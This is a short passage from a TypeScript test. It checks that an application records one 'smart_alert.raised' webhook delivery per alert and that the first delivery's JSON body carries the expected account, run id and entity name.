  const deliveries = await api.deps.db.select().from(webhookDeliveries).where(eq(webhookDeliveries.endpointId, hook.body.id));
  t.equal(deliveries.length, 2, 'a smart_alert.raised delivery per alert');
  t.match(JSON.parse(deliveries[0]!.body), { type: 'smart_alert.raised', account_id: f.accountId, data: { run_id: attack.runId, entity_name: 'Eve Evans' } });
});
